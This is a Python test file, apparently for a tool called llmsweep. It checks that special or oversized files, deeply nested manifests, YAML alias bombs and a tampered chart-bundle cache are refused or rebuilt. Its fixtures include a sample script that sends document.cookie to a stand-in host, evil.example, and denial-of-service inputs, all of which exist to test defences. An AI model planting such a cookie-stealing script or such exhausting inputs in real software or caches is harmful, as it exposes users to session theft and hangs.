"""Hostile corpus, round 3, classes 2 and 3: files that are not files, and a cache that lies.

Every command that reads a file is given a FIFO, /dev/zero (or a link to it where the name is
fixed) and a file over its size limit in that file's place; each must end in a one-line message
naming the file, never a hang or a MemoryError. The vega bundle cache is used only when it is what
llmsweep wrote: tampered, truncated, special or foreign cache files are rebuilt, and what a report
inlines never contains the tampered bytes.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
import vl_convert as vlc

from llmsweep import limits, vega

from .hostile_world import World, assert_ran, assert_refused, first_run, make_world

pytestmark = pytest.mark.skipif(not hasattr(os, "mkfifo") or not Path("/dev/zero").exists(), reason="POSIX")

NOT_REGULAR = "is not a regular file (a FIFO, device or socket); give the path of a file"


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    return first_run(tmp_path_factory.mktemp("files"), "parquet")


@pytest.fixture
def world(tmp_path, template) -> World:
    return make_world(tmp_path, template)


def put(kind: str, path: Path, limit: int) -> None:
    """Make `path` a FIFO, a link to /dev/zero, /dev/zero's twin (a link, where the name is fixed) or a
    sparse file one byte over `limit`."""
    if path.exists() or path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    else:
        with open(path, "wb") as f:
            f.truncate(limit + 1)


# role -> (the file to replace, its limit, the command, the expected message after the path)
def roles(w: World) -> dict:
    r = w.results
    m = w.root / "m.csv"
    return {
        "report: estimates.parquet": (
            r / "estimates.parquet",
            limits.MAX_ESTIMATES_BYTES,
            ["report", r / "estimates.parquet"],
        ),
        "report: plan.parquet": (r / "plan.parquet", limits.MAX_PLAN_BYTES, ["report", r / "estimates.parquet"]),
        "report: manifest.json": (r / "manifest.json", limits.MAX_MANIFEST_BYTES, ["report", r / "estimates.parquet"]),
        "report: a template": (
            w.root / "t" / "report.md.j2",
            limits.MAX_FILE_BYTES,
            ["report", r / "estimates.parquet", "--template-dir", w.root / "t"],
        ),
        "run: a template": (
            w.root / "t" / "partials" / "x.md.j2",
            limits.MAX_FILE_BYTES,
            ["run", w.root / "sweep.yaml", "-o", w.out, "--template-dir", w.root / "t"],
        ),
        "calibrate: measurements": (m, limits.MAX_MEASUREMENTS_BYTES, ["calibrate", m, "-o", w.out / "cal"]),
        "calibrate: --profile": (
            w.root / "p.yaml",
            limits.MAX_FILE_BYTES,
            ["calibrate", w.root / "ok.csv", "-o", w.out / "cal", "--profile", w.root / "p.yaml"],
        ),
        "estimate: --model config.json": (
            w.root / "config.json",
            limits.MAX_FILE_BYTES,
            ["estimate", "--gpu", "h100-sxm", "--model", w.root / "config.json"],
        ),
        "estimate: --profile": (
            w.root / "p.yaml",
            limits.MAX_FILE_BYTES,
            ["estimate", "--gpu", "h100-sxm", "--model", "llama-3.1-8b", "--profile", w.root / "p.yaml"],
        ),
        "models: a config.json": (w.root / "config.json", limits.MAX_FILE_BYTES, ["models", w.root / "config.json"]),
    }


ROLES = [
    "report: estimates.parquet",
    "report: plan.parquet",
    "report: manifest.json",
    "report: a template",
    "run: a template",
    "calibrate: measurements",
    "calibrate: --profile",
    "estimate: --model config.json",
    "estimate: --profile",
    "models: a config.json",
]
KINDS = ["fifo", "dev-zero", "huge"]
CASES = [(role, kind) for role in ROLES for kind in KINDS]


@pytest.mark.parametrize(("role", "kind"), CASES, ids=[f"{r}/{k}" for r, k in CASES])
def test_special_and_huge_files_end_in_a_message(world, role, kind):
    path, limit, args = roles(world)[role]
    (world.root / "ok.csv").write_text(
        "id,source,gpu,tp,pp,model,weight_precision,kv_precision,batch,input_len,output_len,metric,value,unit\n"
        "ok,me,H100 SXM,1,1,meta-llama/Llama-3.1-8B,bf16,,1,128,128,decode_tok_s_per_seq,150,tok/s\n"
    )
    put(kind, path, limit)
    message = NOT_REGULAR if kind != "huge" else "is larger than"
    r = assert_refused(world, args, message)
    assert str(path) in r.output  # names the file
    assert len([line for line in r.lines if line.startswith("Error:")]) == 1


def test_read_regular_file_never_blocks_on_a_fifo_swapped_in(tmp_path):
    """The check is made on the opened descriptor: a FIFO is opened without blocking and refused."""
    fifo = tmp_path / "f"
    os.mkfifo(fifo)
    with pytest.raises(limits.UnreadableFile, match="not a regular file"):
        limits.read_regular_file(fifo)
    with pytest.raises(limits.UnreadableFile, match="not a regular file"):
        limits.check_regular_file(fifo, 10, "x")


def test_a_deep_or_huge_integer_manifest_is_refused(world):
    manifest = world.results / "manifest.json"
    manifest.write_text("[" * 100_000 + "]" * 100_000)
    assert_refused(world, ["report", world.results / "estimates.parquet"], "nests deeper than 50 levels")
    manifest.write_text('{"llmsweep_version": ' + "9" * 5000 + "}")
    assert_refused(world, ["report", world.results / "estimates.parquet"], "a value cannot be read")


def test_an_alias_bomb_in_the_manifest_sweep_is_refused_in_little_time(world):
    import json

    data = json.loads((world.results / "manifest.json").read_text())
    levels = ["a0: &a0 [" + ", ".join(["x"] * 9) + "]"]
    levels += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
    data["sweep"]["content"] = "name: w\n" + "\n".join(levels) + "\n"
    (world.results / "manifest.json").write_text(json.dumps(data))
    assert_refused(world, ["report", world.results / "estimates.parquet"], "more than 100,000 values once its aliases")


# -- the vega bundle cache -----------------------------------------------------------------------------------
@pytest.fixture
def cache(tmp_path, monkeypatch) -> Path:
    """An empty cache folder, and vl-convert's bundle replaced by a small fake (fast to build)."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.setattr(vlc, "javascript_bundle", lambda *a, **k: "/* fake bundle */ window.vegaEmbed=1;")
    return tmp_path / "xdg" / "llmsweep"


EVIL = b"\nfetch('https://evil.example/?c='+document.cookie);\n"


def damage(kind: str, path: Path) -> None:
    raw = path.read_bytes()
    path.unlink()
    if kind == "appended script":
        path.write_bytes(raw + EVIL)
    elif kind == "truncated":
        path.write_bytes(raw[: len(raw) // 2])
    elif kind == "header rewritten":  # the body replaced, the old checksum line kept
        path.write_bytes(raw.split(b"\n", 1)[0] + b"\n" + EVIL)
    elif kind == "no header (an older llmsweep)":
        path.write_bytes(raw.split(b"\n", 1)[1] + EVIL)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "link to /dev/zero":
        path.symlink_to("/dev/zero")
    elif kind == "huge":
        with open(path, "wb") as f:
            f.write(raw.split(b"\n", 1)[0] + b"\n")
            f.truncate(vega.MAX_BUNDLE_BYTES + 1000)
    elif kind == "writable by others":
        path.write_bytes(raw)
        path.chmod(0o666)
    elif kind == "a folder":
        path.mkdir()


CACHE_CASES = [
    "appended script",
    "truncated",
    "header rewritten",
    "no header (an older llmsweep)",
    "fifo",
    "link to /dev/zero",
    "huge",
    "writable by others",
    "a folder",
]


@pytest.mark.parametrize("kind", CACHE_CASES)
def test_a_cache_that_lies_is_rebuilt(cache, kind):
    first = vega.vega_bundle()
    path = vega.cache_path()
    assert path is not None and path.parent == cache and vega.read_cached(path) == first
    damage(kind, path)
    again = vega.vega_bundle()  # never blocks, never reads /dev/zero, never returns the damaged bytes
    assert again == first and "evil.example" not in again
    if kind != "a folder":  # rebuilt in place, whole
        assert vega.read_cached(path) == first
        assert stat.S_IMODE(path.stat().st_mode) & 0o022 == 0


def test_no_home_means_no_cache(monkeypatch, tmp_path):
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setenv("HOME", "/nonexistent")
    assert vega.cache_folder() is None
    monkeypatch.setenv("XDG_CACHE_HOME", "relative/cache")  # ignored, as the XDG spec says
    assert vega.cache_folder() is None
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert vega.cache_folder() == tmp_path / "llmsweep"


def test_a_tampered_cache_never_reaches_report_html(tmp_path, template):
    """End to end, with the real bundle: append a script to the cache, re-render: the report
    inlines the bundle vl-convert builds, not the cached bytes."""
    world = make_world(tmp_path, template)
    first = world.invoke("report", world.results / "estimates.parquet", "--format", "html")
    assert first.exit_code == 0, first.output
    (cached,) = (world.root / "cache" / "llmsweep").iterdir()
    with open(cached, "ab") as f:
        f.write(EVIL)
    assert_ran(world, ["report", world.results / "estimates.parquet", "--format", "html"], ("out/w/", "cache/"))
    html = (world.results / "report.html").read_bytes()
    assert b"evil.example" not in html and html.count(b"window.vegaEmbed=") == 1
    assert b"evil.example" not in cached.read_bytes()  # and the cache was rebuilt


CORPUS = [*CASES, *CACHE_CASES, "deep manifest", "alias bomb in manifest", "fifo swapped in"]
